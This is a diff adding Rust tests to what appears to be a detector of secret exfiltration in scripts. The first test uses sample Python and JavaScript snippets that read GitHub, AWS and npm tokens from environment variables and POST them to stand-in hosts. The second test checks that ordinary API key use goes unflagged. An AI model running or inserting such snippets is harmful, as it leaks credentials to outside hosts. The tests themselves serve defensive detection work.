@@ -113,3 +113,50 @@ fn a_socket_piped_into_a_shell() {
             .is_empty()
     );
 }
+
+#[test]
+fn a_secret_variable_followed_into_what_is_sent() {
+    let source = "import os, requests\nt = os.environ[\"GITHUB_TOKEN\"]\nbody = {\"v\": t}\nrequests.post(\"https://gh-sync.example.net/r\", json=body)\n";
+    let found = script_dangers(source, Language::Python);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].kind, DangerKind::Exfiltration);
+    let related = found[0].related.as_ref().map(|r| &source[r.start..r.end]);
+    assert_eq!(related, Some("os.environ[\"GITHUB_TOKEN\"]"));
+    assert_eq!(
+        js(
+            "const k = process.env.AWS_SECRET_ACCESS_KEY;\nfetch('https://cache.example.io/w', {method: 'POST', body: k});"
+        ),
+        [DangerKind::Exfiltration]
+    );
+    // Node's request options, the body written after.
+    assert_eq!(
+        js(
+            "const t = process.env.NPM_TOKEN;\nconst req = https.request({hostname: 'reg.example.dev', method: 'POST'});\nreq.write(t);\nreq.end();"
+        ),
+        [DangerKind::Exfiltration]
+    );
+}
+
+#[test]
+fn a_secret_in_a_header_or_sent_to_its_own_service_is_used() {
+    // In the headers, whatever the host.
+    assert_eq!(
+        py(
+            "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nrequests.post(\"https://llm.example.net/v1\", headers={\"Authorization\": f\"Bearer {key}\"}, json={\"q\": 1})"
+        ),
+        Vec::<DangerKind>::new()
+    );
+    // In the URL of the service its name says it is for.
+    assert_eq!(
+        py(
+            "key = os.environ[\"WEATHERAPI_KEY\"]\nrequests.get(f\"https://api.weatherapi.com/v1/current.json?key={key}\")"
+        ),
+        Vec::<DangerKind>::new()
+    );
+    assert_eq!(
+        js(
+            "const key = process.env.ANTHROPIC_API_KEY;\nawait fetch('https://api.anthropic.com/v1/messages', {method: 'POST', headers: {'x-api-key': key}, body: JSON.stringify({q: 1})});"
+        ),
+        Vec::<DangerKind>::new()
+    );
+}
